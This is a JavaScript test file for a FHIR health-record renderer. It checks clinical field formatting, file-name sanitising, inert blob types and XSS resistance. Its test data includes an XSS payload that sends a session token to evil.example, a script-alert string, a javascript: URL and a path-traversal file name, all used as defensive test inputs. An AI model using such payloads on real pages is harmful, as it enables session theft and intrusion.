import { test } from 'node:test';
import assert from 'node:assert/strict';
import { resolveObjectURL } from 'node:buffer';
import {
    describeRecord, inertType, renderRecord, safeFilename,
} from '../../main/resources/static/js/fhir-render.js';

const HOSTILE = '<img src=x onerror="fetch(\'//evil.example/\'+sessionStorage.getItem(\'hrm.token\'))">';

const observation = {
    resourceType: 'Observation',
    status: 'final',
    code: { coding: [{ system: 'http://loinc.org', code: '2823-3', display: 'Potassium [Moles/volume] in Serum or Plasma' }] },
    valueQuantity: { value: 5.9, unit: 'mmol/L', system: 'http://unitsofmeasure.org', code: 'mmol/L' },
    effectiveDateTime: '2026-03-01T09:30:00+01:00',
    interpretation: [{ coding: [{ code: 'H', display: 'High' }] }],
    referenceRange: [{ low: { value: 3.5, unit: 'mmol/L' }, high: { value: 5.1, unit: 'mmol/L' } }],
};

function fields(description) {
    return Object.fromEntries(description.fields.map((f) => [f.label, f.value]));
}

test('an Observation reads as code, value with unit, time, status, interpretation and reference range', () => {
    const d = describeRecord(JSON.stringify(observation));

    assert.equal(d.resourceType, 'Observation');
    assert.equal(d.title, 'Potassium [Moles/volume] in Serum or Plasma');
    assert.deepEqual(fields(d), {
        Value: '5.9 mmol/L',
        When: '2026-03-01 09:30 +01:00',
        Status: 'final',
        Interpretation: 'High',
        'Reference range': '3.5–5.1 mmol/L',
    });
});

test('a blood pressure Observation shows each component with its unit', () => {
    const d = describeRecord(JSON.stringify({
        resourceType: 'Observation', status: 'final', code: { text: 'Blood pressure' },
        effectivePeriod: { start: '2026-03-01T09:30:00Z' },
        component: [
            { code: { text: 'Systolic' }, valueQuantity: { value: 128, unit: 'mmHg' } },
            { code: { text: 'Diastolic' }, dataAbsentReason: { text: 'patient moved' } },
        ],
    }));

    assert.deepEqual(fields(d), {
        Systolic: '128 mmHg', Diastolic: 'not recorded (patient moved)', When: 'from 2026-03-01 09:30 UTC', Status: 'final',
    });
});

test('a Condition reads as code, clinical status, verification and onset', () => {
    const d = describeRecord(JSON.stringify({
        resourceType: 'Condition',
        code: { coding: [{ system: 'http://snomed.info/sct', code: '44054006', display: 'Diabetes mellitus type 2' }] },
        clinicalStatus: { coding: [{ code: 'active' }] },
        verificationStatus: { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/condition-ver-status', code: 'confirmed' }] },
        onsetAge: { value: 52, unit: 'years' },
    }));

    assert.equal(d.title, 'Diabetes mellitus type 2');
    assert.deepEqual(fields(d), {
        'Clinical status': 'active',
        Verification: 'confirmed (http://terminology.hl7.org/CodeSystem/condition-ver-status)',
        Onset: '52 years',
    });
});

test('a MedicationRequest reads as medication, dosage text, status and date', () => {
    const d = describeRecord(JSON.stringify({
        resourceType: 'MedicationRequest', status: 'active', intent: 'order',
        medicationCodeableConcept: { text: 'Metformin 500 mg tablet' },
        dosageInstruction: [{ text: 'one tablet twice a day with meals' }, { timing: {} }],
        authoredOn: '2026-03-02', requester: { reference: 'Practitioner/dr-chen' },
    }));

    assert.equal(d.title, 'Metformin 500 mg tablet');
    assert.deepEqual(fields(d), {
        Dosage: 'one tablet twice a day with meals', Status: 'active', Intent: 'order', 'Authored on': '2026-03-02',
        Prescriber: 'Practitioner/dr-chen',
    });
});

test('a MedicationRequest by reference names the referenced medication', () => {
    const d = describeRecord(JSON.stringify({
        resourceType: 'MedicationRequest', medicationReference: { reference: 'Medication/m1', display: 'Insulin glargine' },
    }));

    assert.equal(d.title, 'Insulin glargine');
});

test('an AllergyIntolerance reads as substance, criticality and each reaction', () => {
    const d = describeRecord(JSON.stringify({
        resourceType: 'AllergyIntolerance', criticality: 'high', type: 'allergy', category: ['medication'],
        code: { coding: [{ display: 'Penicillin G' }] },
        reaction: [
            { manifestation: [{ text: 'Hives' }, { text: 'Wheezing' }], severity: 'severe', onset: '2019-06-01' },
            { manifestation: [], description: 'felt unwell' },
        ],
    }));

    assert.equal(d.title, 'Penicillin G');
    assert.deepEqual(d.fields.map((f) => [f.label, f.value]), [
        ['Criticality', 'high'],
        ['Type', 'allergy'],
        ['Category', 'medication'],
        ['Reaction', 'Hives, Wheezing (severe, onset 2019-06-01)'],
        ['Reaction', 'manifestation not stated: felt unwell'],
    ]);
});

test('a DocumentReference reads as type, date and description, its attachments inline or by url', () => {
    const pdf = Buffer.from('%PDF-1.4 discharge letter');
    const d = describeRecord(JSON.stringify({
        resourceType: 'DocumentReference', status: 'current', type: { text: 'Discharge summary' },
        date: '2026-03-03T16:00:00.000Z', description: 'Discharge after knee surgery',
        content: [
            { attachment: { contentType: 'application/pdf', title: 'Discharge letter', data: pdf.toString('base64') } },
            { attachment: { contentType: 'image/jpeg', url: 'https://pacs.example/img/1', title: 'X-ray' } },
            { attachment: { contentType: 'text/plain', data: 'not base64!' } },
            { attachment: {} },
        ],
    }));

    assert.equal(d.title, 'Discharge summary');
    assert.deepEqual(fields(d), {
        Date: '2026-03-03 16:00 UTC', Description: 'Discharge after knee surgery', Status: 'current',
    });
    const [inline, byUrl, broken, empty] = d.attachments;
    assert.equal(inline.download.filename, 'Discharge letter.pdf');
    assert.equal(inline.download.blobType, 'application/pdf');
    assert.deepEqual(Buffer.from(inline.download.bytes), pdf);
    assert.deepEqual(byUrl, { title: 'X-ray', contentType: 'image/jpeg', url: 'https://pacs.example/img/1' });
    assert.equal(broken.problem, 'its data is not valid base64');
    assert.equal(broken.download, undefined);
    assert.deepEqual(empty, { title: 'attachment 4', contentType: null, problem: 'it has neither data nor a url' });
});

test('missing or ill-typed fields are left out instead of failing', () => {
    for (const type of ['Observation', 'Condition', 'MedicationRequest', 'AllergyIntolerance', 'DocumentReference']) {
        const bare = describeRecord(JSON.stringify({ resourceType: type }));
        const odd = describeRecord(JSON.stringify({
            resourceType: type, code: 42, status: {}, valueQuantity: 'x', component: 'y', effectiveDateTime: [],
            clinicalStatus: 'active', onsetAge: { unit: 'years' }, dosageInstruction: {}, reaction: [null, 3],
            content: [{ attachment: 'z' }, null], referenceRange: [{}], interpretation: [{ coding: 'H' }],
        }));

        assert.ok(bare.title, type);
        assert.deepEqual(bare.fields, [], type);
        assert.deepEqual(bare.attachments, [], type);
        assert.ok(odd.title, type);
        assert.ok(odd.fields.every((f) => typeof f.value === 'string' && f.value.length > 0), type);
    }
});

test('text that is not JSON, not an object or another resource type is not rendered', () => {
    for (const text of ['alice: blood pressure 128/82, pulse 64', '{"resourceType":', '[1,2]', 'null', '"Observation"',
        '{"resourceType":"Patient","name":[{"text":"Alice"}]}', '{"resourceType":"constructor"}', '{"status":"final"}']) {
        assert.equal(describeRecord(text), null, text);
    }
});

test('safe file names lose path separators, reserved and control characters and get the declared type', () => {
    assert.equal(safeFilename('../../etc/passwd', 'text/plain'), '_.._etc_passwd.txt');
    assert.equal(safeFilename('scan.exe', 'application/pdf'), 'scan.exe.pdf');
    assert.equal(safeFilename('photo.JPEG', 'image/jpeg; charset=binary'), 'photo.JPEG');
    assert.equal(safeFilename('report\u202Efdp.exe', null), 'reportfdp.exe');
    assert.equal(safeFilename('a\u0000b\r\nc<d>e:f|g?h*"', null), 'a_b__c_d_e_f_g_h__');
    assert.equal(safeFilename('...', 'application/pdf'), 'attachment.pdf');
    assert.equal(safeFilename('CON', null), '_CON');
    assert.equal(safeFilename(undefined, 'image/png'), 'attachment.png');
    assert.equal(Array.from(safeFilename('x'.repeat(300), null)).length, 100);
});

test('only inert content types keep their type as blobs, anything the browser would run is octet-stream', () => {
    assert.equal(inertType('application/pdf'), 'application/pdf');
    assert.equal(inertType('Image/PNG'), 'image/png');
    assert.equal(inertType('text/html'), 'application/octet-stream');
    assert.equal(inertType('image/svg+xml'), 'application/octet-stream');
    assert.equal(inertType('application/xhtml+xml'), 'application/octet-stream');
    assert.equal(inertType(null), 'application/octet-stream');
});

// A document with only what the DOM part may use: markup setters throw, so any use of them fails the test.
class FakeElement {
    constructor(tag) {
        this.tagName = tag.toUpperCase();
        this.children = [];
        this.ownText = '';
        this.className = '';
    }

    set textContent(value) {
        this.children = [];
        this.ownText = String(value);
    }

    get textContent() {
        return this.ownText + this.children.map((c) => c.textContent).join('');
    }

    append(...nodes) {
        this.children.push(...nodes);
    }

    replaceChildren() {
        this.children = [];
        this.ownText = '';
    }

    set innerHTML(value) {
        throw new Error('innerHTML used for record content');
    }

    set outerHTML(value) {
        throw new Error('outerHTML used for record content');
    }

    insertAdjacentHTML() {
        throw new Error('insertAdjacentHTML used for record content');
    }

    all() {
        return [this, ...this.children.flatMap((c) => c.all())];
    }
}

const fakeDocument = { createElement: (tag) => new FakeElement(tag) };

test('a hostile string in a record stays text in the description and in the page', () => {
    const hostile = JSON.stringify({
        ...observation,
        code: { text: HOSTILE },
        valueString: HOSTILE,
        valueQuantity: undefined,
        interpretation: [{ text: '<script>alert(1)</script>' }],
    });
    const container = new FakeElement('div');

    const rendered = renderRecord(container, hostile, fakeDocument);

    assert.equal(rendered, true);
    assert.equal(describeRecord(hostile).title, HOSTILE);
    const elements = container.all();
    assert.deepEqual([...new Set(elements.map((e) => e.tagName))].sort(),
        ['ARTICLE', 'DD', 'DETAILS', 'DIV', 'DL', 'DT', 'H3', 'P', 'PRE', 'SUMMARY']);
    assert.equal(elements.find((e) => e.tagName === 'H3').textContent, HOSTILE);
    assert.ok(elements.some((e) => e.tagName === 'DD' && e.textContent === HOSTILE));
    assert.ok(elements.some((e) => e.tagName === 'DD' && e.textContent === '<script>alert(1)</script>'));
});

test('the raw JSON is one click away, exactly as decrypted', () => {
    const text = JSON.stringify(observation);
    const container = new FakeElement('div');

    renderRecord(container, text, fakeDocument);

    const details = container.all().find((e) => e.tagName === 'DETAILS');
    assert.equal(details.children[0].tagName, 'SUMMARY');
    assert.equal(details.children[0].textContent, 'Raw JSON');
    assert.equal(details.children[1].tagName, 'PRE');
    assert.equal(details.children[1].textContent, text);
});

test('an inline attachment becomes a download link with a safe name, an inert type and the bytes', async () => {
    const bytes = Buffer.from([0x3c, 0x68, 0x31, 0x3e, 0x00, 0xff, 0x10]);
    const container = new FakeElement('div');

    renderRecord(container, JSON.stringify({
        resourceType: 'DocumentReference', type: { text: 'Letter' },
        content: [{ attachment: { contentType: 'text/html', title: `../${HOSTILE}`, data: bytes.toString('base64') } },
            { attachment: { contentType: 'image/png', url: 'javascript:alert(1)', title: 'scan' } }],
    }), fakeDocument);

    const links = container.all().filter((e) => e.tagName === 'A');
    assert.equal(links.length, 1);
    const [link] = links;
    assert.equal(link.download, '__img src=x onerror=_fetch(\'__evil.example_\'+sessionStorage.getItem(\'hrm.token\'))__');
    assert.match(link.href, /^blob:/);
    const blob = resolveObjectURL(link.href);
    assert.equal(blob.type, 'application/octet-stream');
    assert.deepEqual(Buffer.from(await blob.arrayBuffer()), bytes);
    const urlItem = container.all().find((e) => e.tagName === 'LI' && e.textContent.includes('javascript:'));
    assert.equal(urlItem.all().filter((e) => e.tagName === 'A').length, 0);
    assert.match(urlItem.textContent, /not fetched by this page: javascript:alert\(1\)$/);

    renderRecord(container, 'plain text', fakeDocument);

    assert.equal(resolveObjectURL(link.href), undefined);
    assert.deepEqual(container.children, []);
});
